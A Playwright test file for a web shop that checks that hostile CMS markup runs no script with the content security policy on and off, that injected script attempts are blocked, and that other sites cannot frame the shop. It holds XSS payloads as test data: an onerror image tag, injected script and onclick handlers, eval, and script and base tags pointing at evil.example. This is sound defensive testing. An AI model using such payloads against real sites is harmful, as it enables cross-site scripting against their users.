/**
 * Hostile CMS content in a real browser: no script of it runs, with the content security policy on and off, on the
 * server-rendered page and on one that the browser renders (R-SEC-1).
 */
import type { Page } from '@playwright/test';
import { type BuiltShop, makeBuiltShop } from '../support/built-shop.ts';
import { startHostileCommerce } from '../support/hostile/hostile-commerce.ts';
import type { ShopProcess } from '../support/shop-process.ts';
import { expect, test } from './fixtures.ts';
import { waitForQuiet } from './quiet-page.ts';
import { waitForHydration } from './steps.ts';

let built: BuiltShop;
let shop: ShopProcess;
let commerce: Awaited<ReturnType<typeof startHostileCommerce>>;

test.beforeAll(async () => {
  commerce = await startHostileCommerce();
  built = makeBuiltShop();
  shop = await built.start({ COMMERCE_API_URL: commerce.url, COMMERCE_API_KEY: 'key' });
});
// Renders a page of hundreds of widgets twice.
test.describe.configure({ timeout: 180_000 });
test.afterAll(async () => {
  await shop.stop();
  await commerce.close();
  built.remove();
});

const events = ['mouseover', 'pointerenter', 'focus', 'error', 'load', 'toggle', 'animationstart', 'begin'];

/** Dispatches every event on every element; returns everything on the page that could run a script. */
const triggerEvents = (page: Page) =>
  page.evaluate(types => {
    const allowed = new Set(['http:', 'https:', 'mailto:', 'tel:']);
    const violations: string[] = [];
    for (const element of document.querySelectorAll('body *')) {
      for (const type of types) element.dispatchEvent(new Event(type));
      for (const { name } of element.attributes)
        if (/^on/i.test(name)) violations.push(`${element.tagName} ${name}`);
      if (
        element instanceof HTMLAnchorElement &&
        element.hasAttribute('href') &&
        !allowed.has(element.protocol)
      )
        violations.push(element.href);
    }
    for (const element of document.querySelectorAll(
      'main iframe, object, embed, base, main form[action^="j" i]',
    ))
      violations.push(element.outerHTML.slice(0, 200));
    return violations;
  }, events);

const styledColour = (page: Page) =>
  page
    .locator('main .own')
    .first()
    .evaluate(element => getComputedStyle(element).color);

/** @proves FAULT-76, FAULT-78 */
for (const policy of ['on', 'off'] as const)
  test(`runs no script with the policy ${policy}`, async ({ browser, t }) => {
    const context = await browser.newContext({ bypassCSP: policy === 'off', baseURL: shop.origin });
    const page = await context.newPage();
    const dialogs: string[] = [];
    const thirdParty: string[] = [];
    page.on('dialog', dialog => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    page.on('request', request => {
      const url = request.url();
      if (!url.startsWith(shop.origin) && !url.startsWith('data:image/')) thirdParty.push(url);
    });
    await page.addInitScript(() => {
      Object.assign(globalThis, {
        ran: 0,
        stopped: [] as string[],
        xss: () => void ((globalThis as unknown as { ran: number }).ran += 1),
      });
      addEventListener('securitypolicyviolation', event =>
        (globalThis as unknown as { stopped: string[] }).stopped.push(
          `${event.violatedDirective} ${event.blockedURI}`,
        ),
      );
    });
    const findings = async () => ({
      violations: await triggerEvents(page),
      ran: await page.evaluate(() => (globalThis as unknown as { ran: number }).ran),
      stopped: await page.evaluate(() => (globalThis as unknown as { stopped: string[] }).stopped),
      dialogs,
      thirdParty,
    });
    const clean = { violations: [], ran: 0, stopped: [], dialogs: [], thirdParty: [] };

    await page.goto('/');
    await waitForQuiet(page);
    expect(await page.locator('main [data-widget="rich-text"]').count()).toBeGreaterThan(50);
    expect(await findings()).toEqual(clean);
    // The CSP allows the page's own style by its hash.
    expect(await styledColour(page)).toBe('rgb(1, 2, 3)');

    // Only the application renders the next page in this document.
    await waitForHydration(page, t);
    await page.evaluate(() => Object.assign(globalThis, { sameDocument: true }));
    await page.getByRole('main').getByRole('link', { name: 'toinen' }).first().click();
    await page.waitForURL(/\/toinen$/);
    await page.waitForFunction(() => !document.documentElement.hasAttribute('data-navigating'));
    expect(await page.evaluate(() => 'sameDocument' in globalThis)).toBe(true);
    expect(await page.locator('main [data-widget="rich-text"]').count()).toBeGreaterThan(50);
    // The sanitiser parses hostile markup in an inert document, which still causes CSP reports.
    expect({ ...(await findings()), stopped: [] }).toEqual(clean);
    expect(await styledColour(page)).toBe('rgb(1, 2, 3)');
    await context.close();
  });

/** @proves FAULT-107 */
test('stops what an injected text would try', async ({ browser, t }) => {
  const context = await browser.newContext({ baseURL: shop.origin });
  const page = await context.newPage();
  await page.goto('/');
  await waitForHydration(page, t);
  const outcome = await page.evaluate(async () => {
    const state = { ran: 0, violated: new Set<string>() };
    Object.assign(globalThis, { xss: () => void (state.ran += 1) });
    addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      state.violated.add(effectiveDirective),
    );
    const made = <Name extends keyof HTMLElementTagNameMap>(name: Name) =>
      document.body.appendChild(document.createElement(name));
    const attempts: Record<string, () => void> = {
      markup: () => document.body.insertAdjacentHTML('beforeend', '<img src="/x" onerror="xss()">'),
      script: () => void (made('script').textContent = 'xss()'),
      address: () => void (made('script').src = 'https://evil.example/x.js'),
      handler: () => made('button').setAttribute('onclick', 'xss()'),
      // oxlint-disable-next-line no-eval
      evaluation: () => void Reflect.apply(globalThis.eval, null, ['xss()']),
    };
    // Playwright's own evaluation may evaluate text, a task after it may not.
    await new Promise(resolve => setTimeout(resolve));
    const refused = Object.entries(attempts).flatMap(([name, attempt]) => {
      try {
        attempt();
        return [];
      } catch {
        return [name];
      }
    });
    made('base').href = 'https://evil.example/';
    await new Promise(resolve => setTimeout(resolve));
    return { refused, ran: state.ran, violated: [...state.violated], base: document.baseURI };
  });
  expect(outcome.refused).toEqual(['markup', 'script', 'address', 'handler', 'evaluation']);
  expect(outcome.ran).toBe(0);
  expect(outcome.base).toBe(`${shop.origin}/`);
  expect(outcome.violated).toEqual(expect.arrayContaining(['require-trusted-types-for', 'base-uri']));
  await context.close();
});

/** @proves FAULT-106 */
test('is not shown in frames of other sites and keeps no tie to their windows', async ({ browser }) => {
  const context = await browser.newContext();
  const page = await context.newPage();
  const body = `<!doctype html><iframe src="${shop.origin}/"></iframe>`;
  await context.route('http://evil.example/**', route => route.fulfill({ contentType: 'text/html', body }));
  await page.goto('http://evil.example/');
  await expect.poll(() => page.frames()[1]?.url()).toMatch(/^chrome-error:/);
  const [opened] = await Promise.all([
    context.waitForEvent('page'),
    page.evaluate(address => void Object.assign(globalThis, { held: window.open(address) }), shop.origin),
  ]);
  await opened.waitForLoadState();
  expect(await opened.evaluate(() => window.opener === null)).toBe(true);
  const isSevered = () =>
    page.evaluate(() => Reflect.get(Reflect.get(globalThis, 'held'), 'closed') === true);
  await expect.poll(isSevered).toBe(true);
  await context.close();
});
